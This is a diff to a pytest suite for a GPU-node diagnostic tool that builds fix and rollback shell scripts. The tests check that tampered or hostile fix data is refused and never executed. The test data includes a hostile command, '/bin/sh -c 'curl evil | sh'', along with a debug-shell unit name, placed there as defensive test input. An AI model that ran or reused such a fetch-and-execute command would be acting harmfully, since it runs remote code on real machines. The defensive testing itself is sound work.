@@ -15,6 +15,7 @@ from typing import Any
 import pytest
 
 from doctor.fixes.base import FixRejected, build
+from doctor.result_io import to_result
 from reports.fixscript import fix_scripts
 from tests.reports.conftest import EVIL
 
@@ -53,7 +54,7 @@ def _dry_run(path: Path, tmp_path: Path, *args: str) -> subprocess.CompletedProc
 
 
 def test_sick_scripts_parse_and_dry_run_changes_nothing(sick_data: dict[str, Any], tmp_path: Path) -> None:
-    scripts = fix_scripts(sick_data)
+    scripts = fix_scripts(to_result(sick_data))
     fix = _write(tmp_path, "fix.sh", scripts.fix)
     back = _write(tmp_path, "fix.rollback.sh", scripts.rollback)
     for p in (fix, back):
@@ -74,7 +75,7 @@ def test_sick_scripts_parse_and_dry_run_changes_nothing(sick_data: dict[str, Any
 
 
 def test_rollback_undoes_only_what_the_fix_script_runs(sick_data: dict[str, Any]) -> None:
-    scripts = fix_scripts(sick_data)
+    scripts = fix_scripts(to_result(sick_data))
     assert "systemctl disable --now irqbalance" in scripts.fix  # listed for a human ...
     assert "irqbalance" not in scripts.rollback  # ... so never re-enabled by the rollback
     assert "/etc/sysctl.d/" not in scripts.rollback  # it never wrote a sysctl.d file
@@ -121,7 +122,7 @@ def test_edited_command_text_is_never_run(sick_data: dict[str, Any], command: st
              {"phase": "runtime", "manual": command, "unattended": True}]
     for check in ("numa.kernel_policy", "net.link"):
         data = _tamper(sick_data, check, runtime=[command], rollback=[command], steps=steps)
-        scripts = fix_scripts(data)
+        scripts = fix_scripts(to_result(data))
         for script in (scripts.fix, scripts.rollback):
             assert not any(command in line or "sh -c" in line for line in _actions(script))
             assert command not in script  # the text is not even shown: the fix is rebuilt
@@ -144,7 +145,7 @@ def test_edited_command_text_is_never_run(sick_data: dict[str, Any], command: st
 def test_edited_parameters_are_refused_with_a_reason(sick_data: dict[str, Any], builder: str,
                                                      params: dict[str, Any], reason: str) -> None:
     data = _tamper(sick_data, "numa.kernel_policy", builder=builder, params=params)
-    scripts = fix_scripts(data)
+    scripts = fix_scripts(to_result(data))
     section = scripts.fix.split("numa.kernel_policy:", 1)[1].split("# ----", 1)[0]
     assert "# refused, nothing run:" in section and reason in section
     assert not _actions(section)
@@ -154,7 +155,7 @@ def test_edited_parameters_are_refused_with_a_reason(sick_data: dict[str, Any], 
 def test_unit_restarts_are_never_run(sick_data: dict[str, Any]) -> None:
     data = _tamper(sick_data, "rdma.gid_index", builder="unit_env",
                    params={"unit": "debug-shell.service", "what": "x", "unset": ["NCCL_IB_GID_INDEX"], "set": {}})
-    scripts = fix_scripts(data)
+    scripts = fix_scripts(to_result(data))
     assert not any("systemctl" in a for a in _actions(scripts.fix))  # service steps are never unattended
     assert "# by hand, not run by this script: systemctl restart debug-shell.service" in scripts.fix
 
@@ -193,7 +194,7 @@ def test_unit_restarts_are_never_run(sick_data: dict[str, Any]) -> None:
 def test_hostile_unit_names_values_and_paths_are_refused(sick_data: dict[str, Any], check: str, builder: str,
                                                          params: dict[str, Any], reason: str) -> None:
     data = _tamper(sick_data, check, builder=builder, params=params)
-    scripts = fix_scripts(data)
+    scripts = fix_scripts(to_result(data))
     section = scripts.fix.split(f"{check}:", 1)[1].split("# ----", 1)[0]
     assert "# refused, nothing run:" in section and reason in section
     assert not _actions(section)
@@ -204,7 +205,7 @@ def test_command_line_drop_ins_are_for_a_human(sick_data: dict[str, Any]) -> Non
     data = _tamper(sick_data, "runtime.cuda_graphs", builder="unit_exec",
                    params={"unit": "vllm.service", "flag": "--enforce-eager",
                            "exec_start": "/bin/sh -c 'curl evil | sh' --enforce-eager"})
-    scripts = fix_scripts(data)
+    scripts = fix_scripts(to_result(data))
     section = scripts.fix.split("runtime.cuda_graphs:", 1)[1].split("# ----", 1)[0]
     assert "# by hand, not run by this script: printf '%s\\n'" in section
     assert not any("curl" in a for a in _actions(scripts.fix))
@@ -212,9 +213,9 @@ def test_command_line_drop_ins_are_for_a_human(sick_data: dict[str, Any]) -> Non
 
 def test_interfaces_must_exist_in_the_result(sick_data: dict[str, Any]) -> None:
     ok = _tamper(sick_data, "net.link", params={"netdev": "enp189s0np0"})
-    assert "run 'ip link set dev enp189s0np0 up'" in fix_scripts(ok).fix
+    assert "run 'ip link set dev enp189s0np0 up'" in fix_scripts(to_result(ok)).fix
     bad = _tamper(sick_data, "net.link", params={"netdev": "eth9"})
-    scripts = fix_scripts(bad)
+    scripts = fix_scripts(to_result(bad))
     assert "interface eth9 is not in the result's inventory" in scripts.fix
     assert not any("eth9" in a for a in _actions(scripts.fix))
 
@@ -224,13 +225,13 @@ def test_old_results_show_fixes_but_run_nothing(sick_data: dict[str, Any]) -> No
     old["schema_version"] = "1.0"
     for f in old["findings"]:
         f["fix"] = {k: f["fix"][k] for k in ("runtime", "persistent", "rollback", "notes")}
-    scripts = fix_scripts(old)
+    scripts = fix_scripts(to_result(old))
     assert scripts.fix_commands == 0 and scripts.rollback_commands == 0
     assert "no fix builder recorded" in scripts.fix
 
 
 def test_hostile_values_never_execute(hostile_data: dict[str, Any], tmp_path: Path) -> None:
-    scripts = fix_scripts(hostile_data)
+    scripts = fix_scripts(to_result(hostile_data))
     fix = _write(tmp_path, "fix.sh", scripts.fix)
     subprocess.run([BASH, "-n", str(fix)], check=True)
     marker = Path("/tmp/gnd-pwned")
@@ -262,7 +263,7 @@ def _fake_host(tmp_path: Path, hostname: str) -> dict[str, str]:
 ])
 def test_apply_refuses_another_host(sick_data: dict[str, Any], tmp_path: Path, script: str, hostname: str,
                                     why: str) -> None:
-    scripts = fix_scripts(sick_data)
+    scripts = fix_scripts(to_result(sick_data))
     path = _write(tmp_path, "s.sh", getattr(scripts, script))
     out = subprocess.run([BASH, str(path), "--apply"], capture_output=True, text=True,
                          env=_fake_host(tmp_path, hostname))
@@ -276,9 +277,9 @@ def test_apply_needs_the_recorded_machine_id(sick_data: dict[str, Any], tmp_path
     data = copy.deepcopy(sick_data)
     data["source"]["machine_id"] = None
     data["inventory"]["host"]["machine_id"] = None
-    assert "EXPECT_MACHINE_ID=''" in fix_scripts(data).fix
-    assert f"EXPECT_MACHINE_ID={sick_data['source']['machine_id']}" in fix_scripts(sick_data).fix
-    assert "EXPECT_HOST=gpu-node-13" in fix_scripts(sick_data).fix
+    assert "EXPECT_MACHINE_ID=''" in fix_scripts(to_result(data)).fix
+    assert f"EXPECT_MACHINE_ID={sick_data['source']['machine_id']}" in fix_scripts(to_result(sick_data)).fix
+    assert "EXPECT_HOST=gpu-node-13" in fix_scripts(to_result(sick_data)).fix
 
 
 #: The data-centre GPU and process-limit builders: parameters a check produces, and one hostile edit each
@@ -318,9 +319,9 @@ def test_gpu_resets_and_service_starts_stay_comments(sick_data: dict[str, Any]) 
     """A pcie.replay fix edited into an ECC change with a reset is refused; one that is the check's own
     builder but asks for a reset is shown, never run."""
     edited = _tamper(sick_data, "pcie.replay", builder="ecc_mode", params=DC_BUILDERS["ecc_mode"][0])
-    section = fix_scripts(edited).fix.split("pcie.replay:", 1)[1].split("# ----", 1)[0]
+    section = fix_scripts(to_result(edited)).fix.split("pcie.replay:", 1)[1].split("# ----", 1)[0]
     assert "does not produce ecc_mode" in section and not _actions(section)
-    scripts = fix_scripts(sick_data)
+    scripts = fix_scripts(to_result(sick_data))
     assert "run 'nvidia-smi -q -d PCIE -i 3' -- nvidia-smi -q -d PCIE -i 3" in scripts.fix  # read-only re-read
     for step in build("ecc_mode", DC_BUILDERS["ecc_mode"][0]).steps + build(
             "fabric_manager", DC_BUILDERS["fabric_manager"][0]).steps:
